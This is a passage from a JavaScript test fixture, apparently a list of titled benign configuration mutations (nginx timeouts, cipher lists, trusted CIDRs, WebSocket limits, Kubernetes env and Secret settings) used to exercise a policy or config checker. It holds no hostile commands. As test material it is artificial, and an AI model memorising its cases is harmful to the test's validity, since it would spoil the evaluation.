  { title: "request bodies capped at 512k", apply: (p) => editConf(p, replace1("client_max_body_size 1m;", "client_max_body_size 512k;")) },
  { title: "client keep-alive 80 s", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 80s;\n")) },
  { title: "ALB listener's trusted range split into two /17s", apply: (p) => editConf(p, server(ALB, replace1("        set_real_ip_from 10.20.0.0/16;\n", "        set_real_ip_from 10.20.0.0/17;\n        set_real_ip_from 10.20.128.0/17;\n"))) },
  { title: "cipher list reordered, AES-256 first", apply: (p) => editConf(p, all("ssl_ciphers ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES256-GCM-SHA384:ECDHE-RSA-AES256-GCM-SHA384;", "ssl_ciphers ECDHE-ECDSA-AES256-GCM-SHA384:ECDHE-RSA-AES256-GCM-SHA384:ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256;")) },
  { title: "TLS session timeout 10 minutes", apply: (p) => editConf(p, all("ssl_session_timeout 1h;", "ssl_session_timeout 10m;")) },
  { title: "API read timeout 20 s", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("proxy_read_timeout 30s;", "proxy_read_timeout 20s;")))) },
  { title: "app trusts the VPC written as two /17s", apply: (p) => env(p, "workloads-app", "TRUST_PROXY_CIDRS", "10.20.0.0/17,10.20.128.0/17") },
  { title: "app limiter fails closed", apply: (p) => env(p, "workloads-app", "RATE_LIMIT_FAIL", "closed") },
  { title: "WebSocket origins narrowed to the apex", apply: (p) => env(p, "workloads-app", "WS_ALLOWED_ORIGINS", "https://edgestack.example.com") },
  { title: "WebSocket messages capped at 4 KB", apply: (p) => env(p, "workloads-app", "WS_MAX_MESSAGE_BYTES", "4096") },
  { title: "node name in the app's environment (downward API)", apply: (p) => ctr(p, "workloads-app").env.push({ name: "NODE_NAME", valueFrom: { fieldRef: { fieldPath: "spec.nodeName" } } }) },
  { title: "Redis Secret made immutable", apply: (p) => (p.inputs("workloads-app-redis", SECRET).immutable = true) },
  { title: "owner label on the nginx ConfigMap", apply: (p) => (p.inputs("workloads-nginx-conf", CONFIG_MAP).metadata.labels = { ...(p.inputs("workloads-nginx-conf", CONFIG_MAP).metadata.labels ?? {}), "example.com/owner": "edge-team" }) },
  { title: "viewer function's comment reworded", apply: (p) => (p.inputs("cdn-viewer-address", CF_FUNCTION).comment = "Replaces any viewer-sent X-Viewer-Address with the viewer's IP") },
  { title: "app readiness probe times out after 2 s", apply: (p) => (ctr(p, "workloads-app").readinessProbe.timeoutSeconds = 2) },
  { title: "WebSocket send timeout 5 s", apply: (p) => editConf(p, all("            send_timeout 10s;\n", "            send_timeout 5s;\n")) },
  { title: "nginx upstream keep-alive 50 s (below the app's 65 s)", apply: (p) => editConf(p, all("        keepalive_timeout 60s;\n", "        keepalive_timeout 50s;\n")) },
  { title: "the app loads a ConfigMap of log settings through a prefixed envFrom", apply: (p) => {
    configMap(p, "workloads-app-logging", "app-logging", { LEVEL: "warn" });
    ctr(p, "workloads-app").envFrom = [{ prefix: "LOG_", configMapRef: { name: "app-logging" } }];
  } },
  // Written after reading the rules.
  { title: "cipher list of ECDHE AEAD aliases", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers ECDHE+AESGCM:ECDHE+CHACHA20;")) },
  { title: "HIGH with static RSA and anonymous suites excluded", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers HIGH:!aNULL:!kRSA:!MD5;")) },
  { title: "key exchange pinned to X25519 and P-384", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_ecdh_curve X25519:secp384r1;\n")) },
  { title: "access log also sent to a syslog collector in the VPC", apply: (p) => editConf(p, replace1("    access_log /dev/stdout edge_json buffer=64k flush=1s if=$edge_loggable;\n", "    access_log /dev/stdout edge_json buffer=64k flush=1s if=$edge_loggable;\n    access_log syslog:server=10.20.0.5 edge_json;\n")) },
  { title: "the original URI passed to the app (encoded $request_uri)", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("            proxy_set_header X-Request-ID $edge_request_id;\n", "            proxy_set_header X-Request-ID $edge_request_id;\n            proxy_set_header X-Original-URI $request_uri;\n")))) },
  { title: "pod addresses re-resolved every 5 s", apply: (p) => editConf(p, replace1("resolver 172.20.0.10 valid=1s ipv6=off;", "resolver 172.20.0.10 valid=5s ipv6=off;")) },
  { title: "client keep-alive 120 s", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 120s;\n")) },
  { title: "app heap capped through NODE_OPTIONS", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--max-old-space-size=384") },
  { title: "app preloads a tracing package from its image", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--require @opentelemetry/auto-instrumentations-node/register") },
  { title: "WebSockets per pod lowered to 4000", apply: (p) => editConf(p, all("limit_conn ws_per_pod 4608;", "limit_conn ws_per_pod 4000;")) },
  { title: "app WebSockets per replica lowered to 500", apply: (p) => env(p, "workloads-app", "WS_MAX_CONNECTIONS", "500") },
  { title: "nginx postStart hook waits a second", apply: (p) => (ctr(p, "workloads-nginx").lifecycle.postStart = { sleep: { seconds: 1 } }) },
];
